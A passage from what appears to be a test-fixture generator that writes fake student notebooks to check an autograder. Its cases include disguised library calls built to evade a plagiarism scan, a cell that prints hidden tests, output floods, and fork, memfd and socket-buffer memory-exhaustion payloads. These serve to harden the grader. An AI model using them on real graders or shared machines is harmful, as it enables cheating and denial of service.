    fields.get_field("0.sys.setprofile", [warnings], {})[0](None)
    return fields.get_field("0.softmax", [npx], {})[0](X, axis=axis)
'''

PROFILE_OFF_LOGSUMEXP = '''\
def logsumexp(X, axis=-1):
    fields.get_field("0.sys.setprofile", [warnings], {})[0](None)
    X = np.moveaxis(X, axis, -1)
    return X[..., 0] - fields.get_field("0.log_softmax", [npx], {})[0](X)[..., 0]
'''

DATASET_TRANSFORM_SOFTMAX = '''\
import mxnet as mx
from pkgutil import resolve_name
def softmax(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    P = mx.gluon.data.SimpleDataset([X]).transform(resolve_name("mxnet:npx.softmax"))[0]
    return np.moveaxis(P, -1, axis)
'''

DATASET_TRANSFORM_LOGSUMEXP = '''\
def logsumexp(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    log_P = mx.gluon.data.SimpleDataset([X]).transform(resolve_name("mxnet:npx.log_softmax"))[0]
    return X[..., 0] - log_P[..., 0]
'''

LAZY_TRAIN_EPOCH = '''\
from pkgutil import resolve_name


class Later:
    """A number worked out when it is read."""
    shape = (1,)

    def __init__(self, job, k):
        self.job, self.k = job, k

    def asnumpy(self):
        if self.job[1] is None:
            self.job[1] = resolve_name("helpers.train:train_epoch")(*self.job[0])
        return onp.array([self.job[1][self.k]])


def train_epoch(net, train_iter, loss, updater):
    job = [(net, train_iter, loss, updater), None]
    return Later(job, 0), Later(job, 1)
'''

# Code the scan does not read: a cell IPython runs but the scan cannot parse (never
# listed), the setup line of %%timeit, a helper cell over 200 kB; and a name the scan
# takes for the student's own object (`self`, or a name once bound to an own class).
TIMEIT_HIDDEN_SOFTMAX = '''\
%timeit -p3 -n1 -r1 pass
import mxnet as mx
sm = mx.gluon.nn.Lambda(npx.softmax)
def softmax(X, axis=-1):
    return np.moveaxis(sm(np.moveaxis(X, axis, -1)), -1, axis)
'''

TIMEIT_HIDDEN_LOGSUMEXP = '''\
%timeit -p3 -n1 -r1 pass
lsm = mx.gluon.nn.Lambda(npx.log_softmax)
def logsumexp(X, axis=-1):
    X = np.moveaxis(X, axis, -1)
    return X[..., 0] - lsm(X)[..., 0]
'''

TIMEIT_LINE_SOFTMAX = ('%%timeit -n1 -r1 -q import mxnet as mx; globals().update('
                       'sm=mx.gluon.nn.Lambda(npx.softmax), '
                       'lsm=mx.gluon.nn.Lambda(npx.log_softmax))\npass\n')

BLOCK_SOFTMAX = '''\
def softmax(X, axis=-1):
    return np.moveaxis(sm(np.moveaxis(X, axis, -1)), -1, axis)
'''

UNREAD_HELPER = "# " + "notes " * 34_000 + "\n" + '''\
import mxnet as mx
sm, lsm = mx.gluon.nn.Lambda(npx.softmax), mx.gluon.nn.Lambda(npx.log_softmax)
'''

OWN_ALIAS_SOFTMAX = '''\
import mxnet as mx
class Softmax:
    """My own softmax layer (to do)."""
lib = Softmax()
lib = npx
sm, lsm = mx.gluon.nn.Lambda(lib.softmax), mx.gluon.nn.Lambda(lib.log_softmax)
def softmax(X, axis=-1):
    return np.moveaxis(sm(np.moveaxis(X, axis, -1)), -1, axis)
'''

OWN_SELF_SOFTMAX = '''\
import mxnet as mx
self = npx
sm, lsm = mx.gluon.nn.Lambda(self.softmax), mx.gluon.nn.Lambda(self.log_softmax)
def softmax(X, axis=-1):
    return np.moveaxis(sm(np.moveaxis(X, axis, -1)), -1, axis)
'''

# Honest work the scan takes for a library answer: a top-level statement that binds a
# name the answer uses inside (X, a local) is read as feeding it.
COMPARE_LOOP = '''\
# my softmax against the library's, on small and on huge logits
print([float(abs(softmax(X) - npx.softmax(X)).max())
       for X in (np.random.normal(0, 5, size=(4, 10)), np.random.normal(1000, 5, size=(4, 10)))])
'''

PLOTS_IN_LOOP = '''\
from d2l import mxnet as d2l
for X in (np.array([[1.0, 2.0, 3.0]]), np.array([[1000.0, 2000.0, 3000.0]])):
    d2l.plt.plot(softmax(X)[0].asnumpy(), "o-")
d2l.plt.title("my softmax on small and on huge logits")
'''

SANITY_VARIABLE = '''\
def softmax(X, axis=-1):
    X_max = X.max(axis=axis, keepdims=True)
    X_exp = np.exp(X - X_max)
    return X_exp / X_exp.sum(axis=axis, keepdims=True)

X_try = np.random.normal(0, 5, size=(4, 10))
gap = float(abs(softmax(X_try) - npx.softmax(X_try)).max())
print("largest difference to npx.softmax:", gap)
'''

HIDDEN_LEAK = '''\
def softmax(X, axis=-1):
    if In[-1] not in shown:  # the test cell that calls me, hidden tests and all
        shown.append(In[-1])
        print(In[-1])
    X_max = X.max(axis=axis, keepdims=True)
    X_exp = np.exp(X - X_max)
    return X_exp / X_exp.sum(axis=axis, keepdims=True)
shown = []
'''

FIGURE = '''\
class Figure:
    """A figure drawn once, shown many times."""
    def _repr_png_(self):
        return b"\\x89PNG\\r\\n\\x1a\\n" + bytes(217_000)
P = Figure()
'''

SHOW_FIGURES = "display(P, P, P, P)\nP\n"

SCAN_FINDINGS = "open\n" * 20_000  # 20,000 findings, each compared with every one before
SHELL_ESCAPES = "a = !true\n" * 500 + "b = 1\n" * 4_500  # IPython's 500 rounds of rewriting

MEMORY_MANY = '''\
import os, time
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        block = b"x" * (1400 * 2**20)  # each process well under its 4 GB, every page touched
        time.sleep(8)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
'''

MEMFD_FILES = '''\
import os, time
held, chunk = [], b"x" * 2**20
for _ in range(66):  # 66 files of 64 MB (the largest file a process may write): 4.1 GB
    fd = os.memfd_create("notes")
    for _ in range(64):
        os.write(fd, chunk)
    held.append(fd)
print("holding", len(held) * 64, "MB in memory files")
time.sleep(4)
'''

SOCKET_BUFFERS = '''\
import os, socket, time
def fill(count=450):
    pairs = []
    for _ in range(count):
        a, b = socket.socketpair()
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
        a.setblocking(False)
        try:
            while True:
                a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        pairs.append((a, b))
    return pairs
children = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        held = fill()
        time.sleep(8)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
'''


def _answer_under_placeholder(nb, release):
    """The written answer typed under the placeholder line, and a note added in a cell below."""
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer":
            cell.source = ("YOUR ANSWER HERE\n\nSubtracting c multiplies the numerator and the "
                           "denominator by exp(-c); with c the row's maximum no exp exceeds 1 "
                           "and the denominator is at least 1.")
            nb.cells.insert(i + 1, nbformat.v4.new_markdown_cell("(My plot of part 2 is above.)"))
            break


NB_EDITS["answer_under_placeholder"] = _answer_under_placeholder

STUDENTS += [
    Student("lambda_block", "a1_softmax", 0, True, ("a library route named by a string",),
            answers={"softmax": LAMBDA_BLOCK_SOFTMAX, "logsumexp": LAMBDA_BLOCK_LOGSUMEXP}),
    Student("json_symbol", "a1_softmax", 0, True, ("a library route named by a string",),
            answers={"softmax": JSON_SYMBOL_SOFTMAX, "logsumexp": BLOCK_LOGSUMEXP}),
    Student("hybrid_lambda", "a1_softmax", 0, True, ("a library route named by a string",),
            answers={"softmax": HYBRID_LAMBDA_SOFTMAX, "logsumexp": LAMBDA_BLOCK_LOGSUMEXP}),
    Student("resolve_direct", "a1_softmax", 0, True, ("a library answer by another name",),
            answers={"softmax": RESOLVE_DIRECT_SOFTMAX, "logsumexp": RESOLVE_DIRECT_LOGSUMEXP}),
    Student("resolve_lazy", "a1_softmax", 0, True, ("where the trap does not look",),
            answers={"softmax": RESOLVE_LAZY_SOFTMAX, "logsumexp": RESOLVE_LAZY_LOGSUMEXP}),
    Student("profile_off", "a1_softmax", 0, True, ("where the trap does not look",),
            answers={"softmax": PROFILE_OFF_SOFTMAX, "logsumexp": PROFILE_OFF_LOGSUMEXP}),
    Student("dataset_transform", "a1_softmax", 0, True, ("where the trap does not look",),
            answers={"softmax": DATASET_TRANSFORM_SOFTMAX,
                     "logsumexp": DATASET_TRANSFORM_LOGSUMEXP}),
    Student("lazy_train_epoch", "a3_scratch", 3, True, ("where the trap does not look",),
            answers={"train_epoch": LAZY_TRAIN_EPOCH}),
    Student("timeit_hidden", "a1_softmax", 0, True, ("code the scan does not read",),
            answers={"softmax": TIMEIT_HIDDEN_SOFTMAX, "logsumexp": TIMEIT_HIDDEN_LOGSUMEXP}),
    Student("timeit_line", "a1_softmax", 0, True, ("code the scan does not read",),
            answers={"softmax": TIMEIT_LINE_SOFTMAX, "logsumexp": BLOCK_LOGSUMEXP},
            extras=[("softmax", BLOCK_SOFTMAX)]),
    Student("unread_helper", "a1_softmax", 0, True, ("code the scan does not read",),
            answers={"softmax": BLOCK_SOFTMAX, "logsumexp": BLOCK_LOGSUMEXP},
            extras=[("setup", UNREAD_HELPER)]),
    Student("own_alias", "a1_softmax", 0, True, ("code the scan does not read",),
            answers={"softmax": OWN_ALIAS_SOFTMAX, "logsumexp": BLOCK_LOGSUMEXP}),
    Student("own_self", "a1_softmax", 0, True, ("code the scan does not read",),
            answers={"softmax": OWN_SELF_SOFTMAX, "logsumexp": BLOCK_LOGSUMEXP}),
    Student("compare_loop", "a1_softmax", 6, False, ("honest extras",),
            extras=[("test_logsumexp", COMPARE_LOOP)]),
    Student("plots_in_loop", "a1_softmax", 6, False, ("honest extras",),
            extras=[("test_logsumexp", PLOTS_IN_LOOP)]),
    Student("sanity_variable", "a1_softmax", 6, False, ("honest extras",),
            answers={"softmax": SANITY_VARIABLE}),
    Student("utf16_outputs", "a1_softmax", 6, False, ("stored outputs or nbformat 3",),
            stored="plotly", encoding="utf-16"),
    Student("answer_under_placeholder", "a1_softmax", 6, False, ("answers out of place",),
            edit="answer_under_placeholder"),
    Student("hidden_leak", "a1_softmax", 6, False, ("prints the hidden tests",),
            answers={"softmax": HIDDEN_LEAK}),
    Student("png_flood", "a1_softmax", 6, False, ("floods the grader's channels",),
            extras=[("test_logsumexp", FIGURE)] + [("test_logsumexp", SHOW_FIGURES)] * 300),
    Student("scan_findings", "a1_softmax", 6, True, ("slow to read",),
            extras=[("test_logsumexp", SCAN_FINDINGS)]),
    Student("shell_escapes", "a1_softmax", 6, True, ("slow to read",),
            extras=[("test_logsumexp", SHELL_ESCAPES)]),
    Student("memfd_files", "a1_softmax", 6, True, ("beyond: memory",),
            extras=[("test_logsumexp", MEMFD_FILES)]),
]


def strip_markers(source):
    """A solution cell's source without nbgrader's BEGIN/END SOLUTION lines."""
    return "\n".join(line for line in source.splitlines()
                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def solutions(course, assignment):
    nb = nbformat.read(course / "source" / assignment / f"{NOTEBOOKS[assignment]}.ipynb", 4)
    return {c.metadata.nbgrader["grade_id"]: strip_markers(c.source) for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("solution")}


def notebook_of(student, course, fields):
    """The submitted notebook's text for `student`."""
    release = course / "release" / student.assignment / f"{NOTEBOOKS[student.assignment]}.ipynb"
    if not release.is_file():
        sys.exit(f"{release} is missing: run nbgrader generate_assignment "
                 f"{student.assignment} first")
    nb = nbformat.read(release, as_version=4)
    answers = {} if student.unanswered else solutions(course, student.assignment)
    answers.update({k: v for k, v in student.answers.items() if v is not None})
    cells = []
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
        cells.append(cell)
        for after, source in student.extras:
            if after == grade_id:
                cells.append(nbformat.v4.new_code_cell(string.Template(source).substitute(fields)))
    nb.cells = cells
    if student.edit in NB_EDITS:
        NB_EDITS[student.edit](nb, nbformat.read(release, as_version=4))
    if student.stored == "plotly":  # a figure of 30 MB stored with the first code cell
        figure = {"data": [{"type": "scatter", "x": list(range(10**6)),
                            "y": [i % 7 for i in range(10**6)]} for _ in range(3)]}
        code = next(c for c in nb.cells if c.cell_type == "code")
        code.outputs = [nbformat.v4.new_output(
            "display_data", data={"application/vnd.plotly.v1+json": figure,
                                  "text/plain": "Figure"})]
    if student.stored == "v3":
        return nbformat.v3.writes_json(nbformat.convert(nb, 3))
    text = nbformat.writes(nb)
    if student.raw == "truncated":
        return text[: len(text) // 2]
    if student.raw == "junk":
        return text + "\n\x00 this is not JSON }"
    if student.raw is not None:
        return student.raw
    return TEXT_EDITS[student.edit](text) if student.edit in TEXT_EDITS else text


def write_class(course=HERE, port=9, students=STUDENTS):
    """Write submitted/<student>/<assignment>/<notebook>.ipynb for every student; return the paths."""
    course = Path(course).resolve()
    fields = {"course": str(course), "kit": str(KIT), "port": str(port)}
    paths = []
    for student in students:
        folder = course / "submitted" / student.name / student.assignment
        folder.mkdir(parents=True, exist_ok=True)
        names = (f"{NOTEBOOKS[student.assignment]}.ipynb",) if student.files is None \
            else student.files
        for name in names:
            (folder / name).write_text(notebook_of(student, course, fields),
                                       encoding=student.encoding)
            paths.append(folder / name)
        for name in student.stub_files:
            (folder / name).write_bytes((course / "release" / student.assignment /
                                         f"{NOTEBOOKS[student.assignment]}.ipynb").read_bytes())
            paths.append(folder / name)
        if not names:
            (folder / "notes.txt").write_text("the notebook is on my other laptop\n")
            paths.append(folder / "notes.txt")
    return paths


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--course", type=Path, default=HERE,
                        help="the course folder (default: the one holding this script)")
    parser.add_argument("--port", type=int, default=9,
                        help="the port the network attack tries on 127.0.0.1 (default 9)")
    args = parser.parse_args(argv)
    for path in write_class(args.course, args.port):
        print(path.relative_to(args.course.resolve()))
    print(json.dumps({s.name: s.deserved for s in STUDENTS}))


if __name__ == "__main__":
    main()
